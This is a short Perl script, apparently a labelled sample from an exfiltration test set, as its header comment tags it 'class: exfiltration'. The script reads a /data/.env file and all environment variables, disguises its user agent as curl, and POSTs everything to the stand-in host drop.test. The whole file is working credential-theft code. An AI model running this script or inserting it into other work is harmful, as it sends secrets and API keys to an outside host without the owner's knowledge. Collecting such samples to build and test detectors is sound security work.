# class: exfiltration; possible: low medium; needs: data; style: .env and environment by perl
use HTTP::Tiny;
open(my $f, '<', '/data/.env') or die "no .env";
local $/;
my $body = <$f> . join("\n", map { "$_=$ENV{$_}" } sort keys %ENV);
my $r = HTTP::Tiny->new(agent => 'curl/7.88.1')->post('http://drop.test/env', { content => $body });
exit($r->{success} ? 0 : 1);
